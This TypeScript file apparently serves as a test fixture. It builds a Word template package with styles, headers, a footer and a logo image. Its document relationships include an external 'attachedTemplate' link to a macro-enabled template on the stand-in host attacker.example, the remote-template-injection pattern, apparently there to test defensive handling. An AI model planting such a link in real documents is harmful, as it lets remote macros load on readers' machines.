import { strToU8, zipSync } from 'fflate';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const OFFICE = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

const rels = (...lines: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`;
const rel = (id: string, kind: string, target: string, more = '') =>
  `<Relationship Id="${id}" Type="${REL}/${kind}" Target="${target}"${more}/>`;

/** A picture of one point. */
export const DOT = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
);

/** A drawing of the picture with that relationship; `more` stands in its properties. */
export const drawing = (id: string, more = '') =>
  `<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="Logo">${more}</wp:docPr><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="${id}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;

export const STYLES = [
  '<w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/><w:rPr><w:rFonts w:ascii="Georgia" w:hAnsi="Georgia"/></w:rPr></w:style>',
  '<w:style w:type="paragraph" w:styleId="berschrift1"><w:name w:val="heading 1"/><w:basedOn w:val="Standard"/><w:next w:val="Standard"/><w:link w:val="Gone"/><w:pPr><w:keepNext/><w:numPr><w:numId w:val="77"/></w:numPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:color w:val="C00000"/></w:rPr></w:style>',
  '<w:style w:type="paragraph" w:styleId="BodyText"><w:name w:val="House Style"/><w:basedOn w:val="Standard"/></w:style>',
  '<w:style w:type="table" w:styleId="Tabelle"><w:name w:val="Document Table"/><w:tblPr><w:tblStyleRowBandSize w:val="1"/></w:tblPr></w:style>',
].join('');

/** A template of Word; what is given stands in place of what it has by itself. */
export function dotx(
  given: {
    styles?: string;
    header?: string;
    /** More relationships of the header. */
    headerRels?: string;
    mainType?: string;
    /** Whether pages with even numbers have a head of their own. */
    hasEven?: boolean;
    more?: Record<string, Uint8Array>;
  } = {},
): Uint8Array {
  const {
    styles = STYLES,
    header = `<w:p><w:r><w:t>ACME Space</w:t></w:r>${drawing('rId1')}</w:p>`,
    headerRels = rel('rId1', 'image', 'media/logo.png'),
    mainType = `${OFFICE}.template.main+xml`,
    hasEven = false,
    more = {},
  } = given;
  const parts: Record<string, string> = {
    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${mainType}"/></Types>`,
    '_rels/.rels': rels(rel('rId1', 'officeDocument', 'word/document.xml')),
    'word/document.xml': `<w:document ${W} ${R}><w:body><w:p/><w:sectPr><w:headerReference w:type="default" r:id="rId2"/><w:footerReference w:type="default" r:id="rId3"/><w:headerReference w:type="first" r:id="rId4"/><w:headerReference w:type="even" r:id="rId6"/><w:pgMar w:top="2000" w:bottom="1500" w:left="1500" w:right="1500" w:header="700" w:footer="700"/><w:titlePg/></w:sectPr></w:body></w:document>`,
    'word/_rels/document.xml.rels': rels(
      rel('rId1', 'styles', 'styles.xml'),
      rel('rId2', 'header', 'header1.xml'),
      rel('rId3', 'footer', '/word/footer1.xml'),
      rel('rId4', 'header', 'header2.xml'),
      rel('rId6', 'header', 'header3.xml'),
      ...(hasEven ? [rel('rId7', 'settings', 'settings.xml')] : []),
      rel('rId5', 'attachedTemplate', 'http://attacker.example/x.dotm', ' TargetMode="External"'),
    ),
    'word/styles.xml': `<w:styles ${W}><w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="23"/></w:rPr></w:rPrDefault></w:docDefaults>${styles}</w:styles>`,
    'word/header1.xml': `<w:hdr ${W} ${R}>${header}</w:hdr>`,
    'word/_rels/header1.xml.rels': rels(headerRels),
    'word/header2.xml': `<w:hdr ${W} ${R}><w:p><w:r><w:t>Cover</w:t></w:r></w:p></w:hdr>`,
    'word/header3.xml': `<w:hdr ${W} ${R}><w:p><w:r><w:t>Even</w:t></w:r></w:p></w:hdr>`,
    'word/settings.xml': `<w:settings ${W}><w:evenAndOddHeaders/></w:settings>`,
    'word/footer1.xml': `<w:ftr ${W} ${R}><w:p><w:r><w:t xml:space="preserve">ACME, page </w:t></w:r><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:ftr>`,
  };
  const bytes = Object.fromEntries(Object.entries(parts).map(([path, text]) => [path, strToU8(text)]));
  return zipSync({ ...bytes, 'word/media/logo.png': DOT, ...more });
}
